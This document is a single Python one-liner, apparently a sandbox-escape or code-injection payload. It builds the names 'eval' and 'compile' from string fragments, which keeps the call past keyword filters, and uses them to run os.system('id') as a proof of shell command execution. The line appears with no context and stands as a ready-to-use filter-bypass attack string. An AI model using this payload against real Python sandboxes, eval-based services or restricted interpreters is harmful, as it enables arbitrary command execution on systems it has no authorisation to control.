__builtins__.__dict__['ev' + 'al'](__builtins__.__dict__['comp' + 'ile']("__import__('os').system('id')", "", "exec"))
